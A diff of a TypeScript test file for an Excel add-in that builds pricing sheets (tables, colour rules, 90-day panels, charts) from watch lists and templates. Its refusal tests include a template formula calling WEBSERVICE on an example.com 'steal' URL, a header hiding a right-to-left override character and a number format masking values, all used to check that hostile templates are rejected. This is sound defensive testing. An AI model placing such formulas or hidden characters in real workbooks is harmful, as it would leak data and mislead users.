@@ -1,238 +1,295 @@
-import { startReferenceService, type RunningReferenceService } from "../../reference-service/src";
-import { DirectSource, IndexDataClient } from "../../src/client";
-import { excelPricingSheetActions } from "../../src/office/pricing-sheet-actions";
-import { PRICING_SHEETS_SETTING } from "../../src/office/pricing-sheet-writer";
+import { indexSymbolOf } from "../../src/formulas";
+import { PRICING_SHEETS_SETTING } from "../../src/office/pricing-sheet-survey";
 import { isIndexFormula } from "../../src/office/refresh-scope-ranges";
-import type { ExcelRun } from "../../src/office/undo-group";
 import { DEFAULT_TEMPLATE } from "../../src/workbook/default-template";
+import { readBuiltSheets } from "../../src/workbook/pricing-sheet-record";
 import type { PricingTemplate } from "../../src/workbook/pricing-template";
 import { restorableFormula } from "../../src/workbook/receipt-formula";
-import type { WatchList } from "../../src/workbook/watch-list";
-import { extraIndex } from "../support/extra-indexes";
-import { NO_STARTUP } from "../support/startup";
-import { linkedIndexCell } from "./data-type-mock";
-import { PricingBook, type BookSheet } from "./pricing-book-mock";
+import { cellMark } from "./cell-rules";
+import { basicValue } from "./excel-typing";
+import { builderOn, listOf, pricingBook, usePricingRig } from "./pricing-support";
+import type { FakeWorkbook } from "./workbook-fake";
+import { keyParts } from "./workbook-grid";
 
 /**
- * The sheet builder on office-addin-mock objects over a workbook in memory, the catalogue from the reference service
- * (41 extra indexes beside its own 9: a list of 50). A list builds one sheet with one table holding every column of
- * the template, its number formats and its rules, a frozen header row, and the list's last 90 days in panels with
- * charts; a second build of the same list updates that sheet in place; a hostile template or an unknown symbol is
- * refused, naming the problem, with nothing written. Expected layouts are read off the template, a fixture.
+ * The sheet builder as the pane calls it, on the workbook fake, its formulas evaluated by the real INDEX functions
+ * against the reference service (41 indexes of long symbols beside its 9: a list of 50). A list builds one sheet with
+ * one table holding every column of the template, its number formats and its rules (a change up in green, down in
+ * red), a frozen header row, and the list's last 90 days in panels that read their symbols from the table's Index
+ * column, with charts; a second build updates that sheet in place; every formula is within Excel's limits; a hostile
+ * template or an unknown symbol is refused, naming the problem, with nothing written. Expected layouts are read off
+ * the template, a fixture.
  */
-let service: RunningReferenceService;
-let source: DirectSource;
-let fifty: string[];
+const rig = usePricingRig();
+const SHEET = "Pricing Desk fifty";
+const at = (address: string) => `'${SHEET}'!${address}`;
+const list = (symbols: readonly string[], name = "Desk fifty") => listOf(symbols, name, "list_fifty01");
+const letter = (column: number) => String.fromCharCode(65 + column);
 
-beforeAll(async () => {
-  const extra = Array.from({ length: 41 }, (_, i) => extraIndex(`XT-${String(i).padStart(2, "0")}`));
-  service = await startReferenceService({ extraIndexes: extra, rateLimits: { anonymous: 100_000 } });
-  source = new DirectSource(new IndexDataClient({ baseUrl: service.url }));
-  fifty = (await source.listIndexes()).data.map((entry) => entry.symbol);
-});
-
-afterAll(() => service.close());
+/** Every column of the template below the header: header text, formulas and number formats, row by row. */
+function expectColumns(book: FakeWorkbook, symbols: readonly string[]): void {
+  expect(book.valuesIn(at("A1:M1"))).toEqual([["Index", ...DEFAULT_TEMPLATE.columns.map((column) => column.header)]]);
+  DEFAULT_TEMPLATE.columns.forEach((column, c) => {
+    const cells = symbols.map((_, r) => at(`${letter(c + 1)}${r + 2}`));
+    expect(cells.map((cell) => book.formulaAt(cell))).toEqual(
+      symbols.map((symbol) => column.formula.replace("{symbol}", `"${symbol}"`)),
+    );
+    expect(cells.map((cell) => book.formatAt(cell))).toEqual(symbols.map(() => column.numberFormat ?? "General"));
+  });
+  expect(symbols.map((_, r) => indexSymbolOf(book.shown(at(`A${r + 2}`))))).toEqual(symbols);
+}
 
 const BAD = { fill: "#FFC7CE", font: "#9C0006" };
 const NEUTRAL = { fill: "#FFEB9C", font: "#9C5700" };
-
-function builder(book: PricingBook, options: { entities?: boolean } = {}) {
-  const calls: (Excel.RunOptions | undefined)[] = [];
-  const run: ExcelRun = (batch, runOptions) => {
-    calls.push(runOptions);
-    return book.run(batch);
-  };
-  const actions = excelPricingSheetActions(
-    {
-      userSource: source,
-      indexDomain: { register: () => Promise.resolve(options.entities ?? true) },
-      ...NO_STARTUP,
-    },
-    { run, undoGroups: () => true },
-  );
-  return { actions, calls };
-}
-
-const list = (symbols: readonly string[], name = "Desk fifty"): WatchList => ({ id: "list_fifty01", name, symbols });
-const quoted = (formula: string, symbol: string) => formula.replace("{symbol}", `"${symbol}"`);
-const built = (book: PricingBook) => book.sheets.filter((sheet) => sheet.name !== "Sheet1");
-
-/** Every column of the template in `sheet`'s rows below the header: the formulas, row by row. */
-function expectColumns(book: PricingBook, sheet: BookSheet, symbols: readonly string[]): void {
-  const last = symbols.length + 1;
-  const header = book.grid(sheet, `A1:M1`, (cell) => cell?.value);
-  expect(header).toEqual([["Index", ...DEFAULT_TEMPLATE.columns.map((column) => column.header)]]);
-  const formulas = book.grid(sheet, `B2:M${last}`, (cell) => cell?.formula);
-  expect(formulas).toEqual(symbols.map((symbol) => DEFAULT_TEMPLATE.columns.map((c) => quoted(c.formula, symbol))));
-  DEFAULT_TEMPLATE.columns.forEach((column, i) => {
-    const letter = String.fromCharCode(66 + i);
-    const formats = book.grid(sheet, `${letter}2:${letter}${last}`, (cell) => cell?.format).flat();
-    expect(formats).toEqual(symbols.map(() => column.numberFormat));
-  });
-}
+const GOOD = { fill: "#C6EFCE", font: "#006100" };
 
 function expectedRules(last: number) {
+  const change = (c: string) => [
+    { address: `${c}2:${c}${last}`, formula: `=AND(ISNUMBER($${c}2),$${c}2>0)`, ...GOOD },
+    { address: `${c}2:${c}${last}`, formula: `=AND(ISNUMBER($${c}2),$${c}2<0)`, ...BAD },
+  ];
   return [
-    { address: `B2:B${last}`, type: "Custom", formula: "=AND(ISNUMBER($C2),$C2<TODAY()-3)", ...BAD },
-    { address: `B2:B${last}`, type: "Custom", formula: "=LEN($J2)>0", ...NEUTRAL },
-    { address: `C2:C${last}`, type: "Custom", formula: "=AND(ISNUMBER($C2),$C2<TODAY()-3)", ...BAD },
-    { address: `H2:H${last}`, type: "Custom", formula: "=AND(ISNUMBER($H2),$H2<50)", ...BAD },
-    { address: `I2:I${last}`, type: "Custom", formula: '=$I2="STALE"', ...BAD },
-    { address: `J2:J${last}`, type: "Custom", formula: "=LEN($J2)>0", ...NEUTRAL },
+    { address: `B2:B${last}`, formula: "=AND(ISNUMBER($C2),$C2<TODAY()-2)", ...BAD },
+    { address: `B2:B${last}`, formula: "=LEN($J2)>0", ...NEUTRAL },
+    { address: `C2:C${last}`, formula: "=AND(ISNUMBER($C2),$C2<TODAY()-2)", ...BAD },
+    ...["D", "E", "F", "G"].flatMap(change),
+    { address: `H2:H${last}`, formula: "=AND(ISNUMBER($H2),$H2<50)", ...BAD },
+    { address: `I2:I${last}`, formula: '=$I2="STALE"', ...BAD },
+    { address: `J2:J${last}`, formula: "=LEN($J2)>0", ...NEUTRAL },
   ];
 }
 
-const panelFormula = (symbols: readonly string[]) => `=INDEX.PANEL("${symbols.join(",")}","-90D",TODAY(),"previous")`;
+/** The sheet's conditional formats as addresses and marks, in the template's order (the first of a column wins). */
+function rulesOf(book: FakeWorkbook) {
+  const local = (r: { top: number; left: number; bottom: number; right: number }) =>
+    `${letter(r.left)}${r.top + 1}:${letter(r.right)}${r.bottom + 1}`;
+  return book
+    .sheet(SHEET)
+    .rules.map(({ rect, formula, fill, font }) => ({ address: local(rect), formula, fill, font }))
+    .sort((a, b) => a.address.localeCompare(b.address) || 0);
+}
+
+const panelFormula = (from: number, to: number) => `=INDEX.PANEL($A$${from}:$A$${to},"-90D",TODAY(),"previous")`;
 
 describe("a list of 50", () => {
-  it("builds one sheet with one table of every column, format and rule, a frozen header, panels and charts", async () => {
+  it("builds one sheet: a table of every column, format and rule, a frozen header, panels reading the Index column, charts", async () => {
+    const fifty = rig.symbols;
     expect(fifty).toHaveLength(50);
-    const book = new PricingBook();
-    const { actions, calls } = builder(book);
-    const outcome = await actions.build(list(fifty), DEFAULT_TEMPLATE);
-    expect(outcome).toEqual({
+    const book = pricingBook(rig);
+    const { actions, calls } = builderOn(rig, book);
+    expect(await actions.build(list(fifty), DEFAULT_TEMPLATE)).toEqual({
       built: true,
       message:
         'Built the sheet "Pricing Desk fifty": 50 indexes in a table of 13 columns, and under it the list\'s last days in 3 panels with charts.',
     });
     expect(calls).toEqual([{ mergeUndoGroup: true }]);
-    const [sheet] = built(book);
-    if (sheet === undefined) throw new Error("no sheet was built");
-    expect(built(book)).toHaveLength(1);
-    expect(book.active).toBe("Pricing Desk fifty");
-    expect(sheet.tables).toEqual([
-      { name: "IndexPricing_list_fifty01", address: "A1:M51", headers: true, style: "TableStyleMedium2" },
+    expect([[...book.sheets.keys()], book.active]).toEqual([["Sheet1", SHEET], SHEET]);
+    const [table] = book.tablesOn(SHEET);
+    expect(book.tables.map((t) => [t.name, t.rect, t.style])).toEqual([
+      ["IndexPricing_list_fifty01", { top: 0, left: 0, bottom: 50, right: 12 }, "TableStyleMedium2"],
     ]);
-    expect(book.grid(sheet, "A2:A51", (cell) => cell?.json)).toEqual(fifty.map((symbol) => [linkedIndexCell(symbol)]));
-    expectColumns(book, sheet, fifty);
-    expect(sheet.rules).toEqual(expectedRules(51));
-    expect(sheet.frozenRows).toBe(1);
+    expectColumns(book, fifty);
+    expect(rulesOf(book)).toEqual(expectedRules(51).sort((a, b) => a.address.localeCompare(b.address) || 0));
+    expect(book.sheet(SHEET).frozenRows).toBe(1);
+    expect(["A53", "W53", "AS53"].map((cell) => book.formulaAt(at(cell)))).toEqual([
+      panelFormula(2, 21),
+      panelFormula(22, 41),
+      panelFormula(42, 51),
+    ]);
+    await book.settled();
+    // Each panel read its symbols from the Index column's Index values, and spills: its header names them.
     const blocks = [fifty.slice(0, 20), fifty.slice(20, 40), fifty.slice(40)];
-    expect(["A53", "W53", "AS53"].map((at) => book.cell(sheet, at)?.formula)).toEqual(blocks.map(panelFormula));
-    expect(sheet.charts).toEqual([
-      chart(1, "A53:U144", "O1", "V18"),
-      chart(2, "W53:AQ144", "O20", "V37"),
-      chart(3, "AS53:BC144", "O39", "V56"),
+    for (const [b, column] of [0, 22, 44].entries()) {
+      expect(book.spillRange(SHEET, 52, column)).toBeDefined();
+      const header = book.spillValues(at(`${columnName(column)}53`))[0]?.slice(1);
+      expect(header).toEqual(blocks[b]);
+    }
+    const charts = book.sheet(SHEET).charts;
+    expect(charts.map((c) => [c.name, c.source, c.title, c.position])).toEqual([
+      [
+        "IndexPricing_list_fifty01_chart1",
+        { top: 52, left: 0, bottom: 143, right: 20 },
+        "Desk fifty: last 90 days (1 of 3)",
+        ["O1", "V18"],
+      ],
+      [
+        "IndexPricing_list_fifty01_chart2",
+        { top: 52, left: 22, bottom: 143, right: 42 },
+        "Desk fifty: last 90 days (2 of 3)",
+        ["O20", "V37"],
+      ],
+      [
+        "IndexPricing_list_fifty01_chart3",
+        { top: 52, left: 44, bottom: 143, right: 54 },
+        "Desk fifty: last 90 days (3 of 3)",
+        ["O39", "V56"],
+      ],
     ]);
-    expect(JSON.parse(String(book.settings.get(PRICING_SHEETS_SETTING)))).toEqual({
-      version: 1,
+    const record = readBuiltSheets(book.settings.get(PRICING_SHEETS_SETTING));
+    expect(record).toEqual({
+      readable: true,
       sheets: [
         {
           listId: "list_fifty01",
-          sheetId: sheet.id,
-          table: "IndexPricing_list_fifty01",
-          area: "A1:BC144",
-          charts: [1, 2, 3].map((n) => `IndexPricing_list_fifty01_chart${n}`),
+          sheetId: book.sheet(SHEET).id,
+          tableId: table?.id,
+          origin: { row: 0, column: 0 },
+          symbols: fifty,
+          template: DEFAULT_TEMPLATE,
+          charts: charts.map((c) => c.id),
+          rules: expect.arrayContaining(book.sheet(SHEET).rules.map((r) => r.id)),
         },
       ],
     });
   });
 
-  it("writes only formulas of the add-in's own, so Refresh, refresh by scope and freeze with restore take them", async () => {
-    const book = new PricingBook();
-    await builder(book).actions.build(list(fifty), DEFAULT_TEMPLATE);
-    const [sheet] = built(book);
-    const written = [...(sheet?.cells.values() ?? [])].filter((cell) => cell.formula !== undefined);
-    expect(written).toHaveLength(50 * 12 + 3);
-    for (const { formula } of written) {
+  it("writes only formulas of the add-in's own, each one restore takes, each within Excel's limits", async () => {
+    const book = pricingBook(rig);
+    await builderOn(rig, book).actions.build(list(rig.symbols.slice(0, 30), "Desk thirty"), DEFAULT_TEMPLATE);
+    const written = Object.values(book.liveFormulas());
+    expect(written).toHaveLength(30 * 12 + 2);
+    for (const formula of written) {
       expect(isIndexFormula(formula)).toBe(true);
-      expect({ formula, verdict: restorableFormula(formula ?? "") }).toEqual({ formula, verdict: { ok: true } });
+      expect({ formula, verdict: restorableFormula(formula) }).toEqual({ formula, verdict: { ok: true } });
+      // Excel's limits, counted here: 8,192 characters a formula, 255 a text constant.
+      const longest = Math.max(
+        0,
+        ...[...formula.matchAll(/"((?:[^"]|"")*)"/g)].map(([, text = ""]) => text.replace(/""/g, '"').length),
+      );
+      expect({ formula, length: formula.length <= 8_192, longest: longest <= 255 }).toEqual({
+        formula,
+        length: true,
+        longest: true,
+      });
     }
   });
 
-  it("updates the same sheet in place on a second build, whatever the sheet is called now, leaving nothing behind", async () => {
-    const book = new PricingBook();
-    const { actions } = builder(book);
-    await actions.build(list(fifty), DEFAULT_TEMPLATE);
-    const [sheet] = built(book);
-    if (sheet === undefined) throw new Error("no sheet was built");
-    sheet.name = "My prices"; // the trader renamed it
-    const thirty = [...fifty].reverse().slice(0, 30);
+  it("updates the same sheet in place on a second build, whatever it is called now, leaving nothing behind", async () => {
+    const book = pricingBook(rig);
+    const { actions } = builderOn(rig, book);
+    await actions.build(list(rig.symbols), DEFAULT_TEMPLATE);
+    await book.settled();
+    const [table] = book.tables;
+    const charts = book.sheet(SHEET).charts.map((chart) => chart.id);
+    book.renameSheet(SHEET, "My prices");
+    const thirty = [...rig.symbols].reverse().slice(0, 30);
     const outcome = await actions.build(list(thirty, "Desk thirty"), DEFAULT_TEMPLATE);
     expect(outcome.message).toBe(
       'Updated the sheet "My prices" in place: 30 indexes in a table of 13 columns, and under it the list\'s last days in 2 panels with charts.',
     );
-    expect(built(book)).toEqual([sheet]);
-    expect(sheet.tables.map((table) => table.address)).toEqual(["A1:M31"]);
-    expect(book.grid(sheet, "A2:A31", (cell) => cell?.json)).toEqual(thirty.map((symbol) => [linkedIndexCell(symbol)]));
-    expectColumns(book, sheet, thirty);
-    expect(sheet.rules).toEqual(expectedRules(31));
-    expect(sheet.charts.map((c) => [c.name, c.source])).toEqual([
-      ["IndexPricing_list_fifty01_chart1", "A33:U124"],
-      ["IndexPricing_list_fifty01_chart2", "W33:AG124"],
+    expect([...book.sheets.keys()]).toEqual(["Sheet1", "My prices"]);
+    expect(book.tables.map((t) => [t.id, t.name, t.rect])).toEqual([
+      [table?.id, table?.name, { top: 0, left: 0, bottom: 30, right: 12 }],
     ]);
-    // Nothing of the first build is left: its rows 32 to 51 and its panels' cells are empty.
-    const formulas = [...sheet.cells.entries()].filter(
-      ([, cell]) => cell.formula !== undefined || cell.json !== undefined,
-    );
-    expect(formulas).toHaveLength(30 * 13 + 2);
-    expect(book.cell(sheet, "A53")).toBeUndefined();
-    expect(book.cell(sheet, "B51")).toBeUndefined();
+    expect(book.sheet("My prices").charts.map((chart) => [chart.id, chart.source])).toEqual([
+      [charts[0], { top: 32, left: 0, bottom: 123, right: 20 }],
+      [charts[1], { top: 32, left: 22, bottom: 123, right: 32 }],
+    ]);
+    // Nothing of the first build is left: its rows 32 to 51 and its third panel are empty, their formats General.
+    const cells = [...book.cells("My prices")].filter(([, cell]) => cell.formula !== undefined || cell.value !== "");
+    expect(
+      cells
+        .map(([key]) => key)
+        .filter((key) => keyParts(key)[0] > 30)
+        .sort(),
+    ).toEqual(["32,0", "32,22"]);
+    expect(book.formatAt("'My prices'!B51")).toBe("General");
+    expect(book.sheet("My prices").rules).toHaveLength(expectedRules(31).length);
   });
 
   it("writes the symbols as text where Excel has no linked data types, and says so", async () => {
-    const book = new PricingBook();
-    const outcome = await builder(book, { entities: false }).actions.build(list(fifty.slice(0, 3)), DEFAULT_TEMPLATE);
+    const book = pricingBook(rig);
+    const outcome = await builderOn(rig, book, { entities: false }).actions.build(
+      list(rig.symbols.slice(0, 3)),
+      DEFAULT_TEMPLATE,
+    );
     expect(outcome.message).toMatch(
       /The Index column holds symbols: Index values need Excel with linked data types\.$/,
     );
-    const [sheet] = built(book);
-    expect(book.grid(sheet as BookSheet, "A2:A4", (cell) => cell?.value)).toEqual(fifty.slice(0, 3).map((s) => [s]));
+    expect(book.valuesIn(at("A2:A4"))).toEqual(rig.symbols.slice(0, 3).map((s) => [s]));
   });
 });
 
-function chart(n: number, source: string, from: string, to: string) {
-  return {
-    name: `IndexPricing_list_fifty01_chart${n}`,
-    type: "Line",
-    source,
-    seriesBy: "Columns",
-    title: `Desk fifty: last 90 days (${n} of 3)`,
-    position: [from, to],
-  };
+function columnName(column: number): string {
+  let name = "";
+  for (let n = column + 1; n > 0; n = Math.floor((n - 1) / 26)) name = String.fromCharCode(65 + ((n - 1) % 26)) + name;
+  return name;
 }
 
+describe("red and green changes", () => {
+  it("each change cell of the default sheet is green when up, red when down, unmarked when flat or not a number", async () => {
+    const book = pricingBook(rig);
+    await builderOn(rig, book).actions.build(list(rig.symbols.slice(0, 9)), DEFAULT_TEMPLATE);
+    await book.settled();
+    const seen = new Set<string>();
+    for (const column of ["D", "E", "F", "G"]) {
+      for (let row = 2; row <= 10; row += 1) {
+        const value = basicValue(book.shown(at(`${column}${row}`)));
+        const expected = typeof value !== "number" || value === 0 ? {} : value > 0 ? GOOD : BAD;
+        seen.add(JSON.stringify(expected));
+        expect({ cell: `${column}${row}`, mark: cellMark(book, at(`${column}${row}`), new Date()) }).toEqual({
+          cell: `${column}${row}`,
+          mark: expected,
+        });
+      }
+    }
+    // The reference service's indexes both rose and fell over these periods: both colours were seen.
+    expect([...seen]).toEqual(expect.arrayContaining([JSON.stringify(GOOD), JSON.stringify(BAD)]));
+  });
+});
+
 describe("refused before anything is written", () => {
-  const withFormula = (formula: string): PricingTemplate => ({
+  const withColumn = (patch: Partial<PricingTemplate["columns"][number]>): PricingTemplate => ({
     ...DEFAULT_TEMPLATE,
-    columns: [{ key: "evil", header: "Evil", formula }, ...DEFAULT_TEMPLATE.columns.slice(1)],
+    columns: [
+      { ...(DEFAULT_TEMPLATE.columns[0] as PricingTemplate["columns"][number]), ...patch },
+      ...DEFAULT_TEMPLATE.columns.slice(1),
+    ],
   });
 
   it.each([
     [
-      '=WEBSERVICE("http://example.com/steal")',
+      { formula: '=WEBSERVICE("http://example.com/steal")' },
       "columns[0].formula: it calls WEBSERVICE, which is not an INDEX function",
     ],
-    ["=INDEX.NOPE({symbol})", "columns[0].formula: INDEX.NOPE is not a function of this add-in"],
-    ["=INDEX.LATEST(A1)", "columns[0].formula: it refers to a cell; write {symbol} for the row's index"],
-    ["=INDEX.LATEST({other})", "columns[0].formula: only {symbol} may stand for the row's index"],
-  ])("a template whose formula is %s", async (formula, problem) => {
-    const book = new PricingBook();
-    const { actions, calls } = builder(book);
-    expect(await actions.build(list(fifty), withFormula(formula))).toEqual({
+    [{ formula: "=INDEX.NOPE({symbol})" }, "columns[0].formula: INDEX.NOPE is not a function of this add-in"],
+    [{ formula: "=INDEX.LATEST(A1)" }, "columns[0].formula: it refers to a cell; write {symbol} for the row's index"],
+    [{ formula: "=INDEX.LATEST({other})" }, "columns[0].formula: only {symbol} may stand for the row's index"],
+    [
+      { numberFormat: '"6.2160";"6.2160";"6.2160"' },
+      "columns[0].numberFormat: its first (positive) section is text only, so it would show that text instead of the value",
+    ],
+    [
+      { header: "Latest\u202E" },
+      "columns[0].header: must be visible text: it holds U+202E (right-to-left override), an invisible character that reorders or hides text",
+    ],
+  ])("a template with %o", async (patch, problem) => {
+    const book = pricingBook(rig);
+    const { actions, calls } = builderOn(rig, book);
+    expect(await actions.build(list(rig.symbols), withColumn(patch))).toEqual({
       built: false,
       message: `The template cannot be used: ${problem}. Nothing was written.`,
     });
-    expect({ calls, applied: book.applied, sheets: book.sheets.length, settings: book.settings.size }).toEqual({
+    expect({ calls, changes: book.changes, sheets: book.sheets.size, settings: book.settings.size }).toEqual({
       calls: [],
-      applied: 0,
+      changes: 0,
       sheets: 1,
       settings: 0,
     });
   });
 
   it("a list naming a symbol the service does not list, or in the wrong case", async () => {
-    const book = new PricingBook();
-    const { actions, calls } = builder(book);
+    const book = pricingBook(rig);
+    const { actions, calls } = builderOn(rig, book);
     const outcome = await actions.build(list(["RTM-NWE-A-1x3", "RTM-NOPE-1x3", "rtm-nwe-b-1x3"]), DEFAULT_TEMPLATE);
     expect(outcome).toEqual({
       built: false,
       message:
         '"RTM-NOPE-1x3", "rtm-nwe-b-1x3" (did you mean "RTM-NWE-B-1x3"?) are not indexes of this service: check the symbols (INDEX.LIST() shows every index). Nothing was written.',
     });
-    expect({ calls, applied: book.applied, settings: book.settings.size }).toEqual({
+    expect({ calls, changes: book.changes, settings: book.settings.size }).toEqual({
       calls: [],
-      applied: 0,
+      changes: 0,
       settings: 0,
     });
   });
